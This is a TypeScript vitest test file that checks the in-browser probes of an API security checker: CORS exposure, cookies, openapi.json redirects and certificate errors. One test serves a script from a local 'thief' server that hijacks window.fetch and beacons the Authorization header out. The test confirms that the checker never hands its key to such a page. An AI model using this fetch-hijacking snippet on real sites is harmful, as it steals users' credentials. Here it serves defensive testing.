import { createServer } from 'node:http';
import { describe, expect, inject, it } from 'vitest';
import type { Handler } from '../../contract/http.ts';
import { on } from '../../proof/fault-kit/conditions.ts';
import { changeResponse, json, withHeader } from '../../proof/fault-kit/responses.ts';
import { useSandbox } from '../support/counterproof.ts';
import { tlsFront } from '../support/hostile-servers.ts';
import { addressOf, listen } from '../support/odd-servers.ts';
import { privateAuthority } from '../support/self-signed.ts';
import { failedIn, messageOf, outcomesOf, visit } from './visit.ts';

const sandbox = await useSandbox();
const key = sandbox.keys.good;

const GENEROUS = {
  'access-control-allow-origin': '*',
  'access-control-allow-headers': 'Authorization, Accept',
};

function openToEverybody(handle: Handler): Handler {
  return async (request) => {
    if (request.method === 'OPTIONS') return { status: 204, headers: GENEROUS, body: '' };
    const response = await handle(request);
    return { ...response, headers: { ...response.headers, ...GENEROUS } };
  };
}

describe('in a real Chromium', () => {
  it('a good deployment passes every rule, with few requests and no key written down', async () => {
    const { run, written } = await visit('browser', sandbox.handle, key);
    expect(new Set(Object.values(outcomesOf(run, 'browser')))).toEqual(new Set(['passed']));
    expect(messageOf(run, 'browser-no-cookies')).toMatch(/with it/);
    expect(run.plan.probes.find(({ probe }) => probe === 'browser')?.sent).toBeLessThanOrEqual(5);
    expect(written).not.toContain(key.slice(key.indexOf('live_') + 5));
  });

  it('says loudly that a page on another origin can read the API', async () => {
    const { run } = await visit('browser', openToEverybody(sandbox.handle), key);
    expect(failedIn(run)).toEqual(['browser-cross-origin-blocked']);
    expect(messageOf(run, 'browser-cross-origin-blocked')).toMatch(/a page on another origin read \/me with the key/);
  });

  it('counts an answer that its headers withhold, although the preflight allowed the request', async () => {
    const preflightAlone: Handler = (request) =>
      (request.method === 'OPTIONS' ? openToEverybody(sandbox.handle) : sandbox.handle)(request);
    const { run } = await visit('browser', preflightAlone, key);
    expect(messageOf(run, 'browser-cross-origin-blocked')).toMatch(/withheld the answer/);
  });

  it.each([
    ['sometimes fails, tries again', 1, 'failed'],
    ['always fails, counts what Chromium makes of it', 10, 'passed'],
  ])('where a preflight %s', async (_name, times, outcome) => {
    let failures = 0;
    const failing: Handler = (request) => {
      const isFailure = request.method === 'OPTIONS' && failures < times;
      if (isFailure) failures += 1;
      return isFailure ? Promise.resolve(json(503, {})) : openToEverybody(sandbox.handle)(request);
    };
    const { run } = await visit('browser', failing, key);
    expect(outcomesOf(run, 'browser')['browser-cross-origin-blocked']).toBe(outcome);
  });

  it('follows openapi.json within its origin', async () => {
    const moved: Handler = (request) => {
      if (request.url.endsWith('?moved')) return sandbox.handle({ ...request, url: request.url.slice(0, -6) });
      const isDocument = request.url.endsWith('openapi.json') && 'sec-fetch-mode' in request.headers;
      if (!isDocument) return sandbox.handle(request);
      return Promise.resolve({ status: 302, headers: { location: `${request.url}?moved` }, body: '' });
    };
    const { run } = await visit('browser', moved, key);
    expect(failedIn(run)).toEqual([]);
  });

  it('takes a readable refusal for a refusal', async () => {
    const refusing: Handler = (request) =>
      request.headers.origin === undefined ? sandbox.handle(request) : Promise.resolve(json(403, {}));
    const { run } = await visit('browser', openToEverybody(refusing), key);
    expect(messageOf(run, 'browser-cross-origin-blocked')).toMatch(/refused/);
  });

  it('sees cookies, also those that no browser would keep', async () => {
    const { run } = await visit(
      'browser',
      changeResponse(on.me, (response) =>
        withHeader(response, 'set-cookie', '__Host-visitor=1; Domain=elsewhere.test'),
      )(sandbox.handle),
      key,
    );
    expect(failedIn(run)).toEqual(['browser-no-cookies']);
    expect(messageOf(run, 'browser-no-cookies')).toMatch(/__Host-visitor/);
  });

  it('sees that openapi.json minds what a browser sends', async () => {
    const picky: Handler = (request) =>
      request.url.endsWith('openapi.json') && String(request.headers.accept).includes('text/html')
        ? Promise.resolve(json(406, {}))
        : sandbox.handle(request);
    const { run } = await visit('browser', picky, key);
    expect(failedIn(run)).toEqual(['browser-document-reachable']);
  });

  it('follows openapi.json to no other origin, and gives no page there the key', async () => {
    const stolen: string[] = [];
    const thief = createServer((request, response) => {
      if (request.url?.startsWith('/got') === true) stolen.push(request.url);
      response.setHeader('content-type', 'text/html');
      response.end(
        `<script>window.fetch = (_, asked) => { new Image().src = '/got?' + asked.headers.Authorization; return new Promise(() => 0); };</script>`,
      );
    });
    const location = addressOf(await listen(thief));
    const sending: Handler = (request) =>
      request.url.endsWith('openapi.json')
        ? Promise.resolve({ status: 302, headers: { location }, body: '' })
        : sandbox.handle(request);
    try {
      const { run } = await visit('browser', sending, key);
      expect(outcomesOf(run, 'browser')['browser-cross-origin-blocked']).toBe('passed');
      expect(messageOf(run, 'browser-document-reachable')).toMatch(/expected 200, received 302/);
      expect(stolen).toEqual([]);
    } finally {
      thief.closeAllConnections();
      thief.close();
    }
  });

  it('does not wait for ever for an answer that does not come', async () => {
    const silent: Handler = (request) =>
      request.url.endsWith('/me') && 'sec-fetch-mode' in request.headers
        ? new Promise(() => undefined)
        : sandbox.handle(request);
    const { run } = await visit('browser', silent, key, { timeoutMs: 3000 });
    expect(messageOf(run, 'browser-cross-origin-blocked')).toMatch(/no usable answer/);
  });

  it('takes a document that is offered for saving as reachable', async () => {
    const { run } = await visit(
      'browser',
      changeResponse(on.document, (response) =>
        withHeader(response, 'content-disposition', 'attachment; filename="openapi.json"'),
      )(sandbox.handle),
      key,
    );
    expect(outcomesOf(run, 'browser')['browser-document-reachable']).toBe('passed');
  });

  it('cannot tell where no answer comes', async () => {
    const shut: Handler = (request) =>
      String(request.headers['user-agent']).includes('Chrom')
        ? Promise.resolve(json(503, {}))
        : sandbox.handle(request);
    const { run } = await visit('browser', shut, key);
    expect(new Set(Object.values(outcomesOf(run, 'browser')))).toEqual(new Set(['cantTell']));
  });
});

const withHttps = it.skipIf(inject('missing').includes('libsqlite3'));

withHttps('where Chromium does not know the authority, the rules are untested, with what to do', async () => {
  const { run } = await visit('browser', sandbox.handle, key, { front: tlsFront, ca: privateAuthority });
  expect(new Set(Object.values(outcomesOf(run, 'browser')))).toEqual(new Set(['untested']));
  expect(messageOf(run, 'browser-no-cookies')).toMatch(/does not trust the certificate \(ERR_CERT_AUTHORITY_INVALID\)/);
});

it('without a Chromium the rules are untested, with the command that installs one', async () => {
  const { run } = await visit('browser', sandbox.handle, key, { env: { CHROMIUM_PATH: '/nowhere/chromium' } });
  expect(new Set(Object.values(outcomesOf(run, 'browser')))).toEqual(new Set(['untested']));
  expect(messageOf(run, 'browser-no-cookies')).toMatch(/npx playwright install chromium/);
});
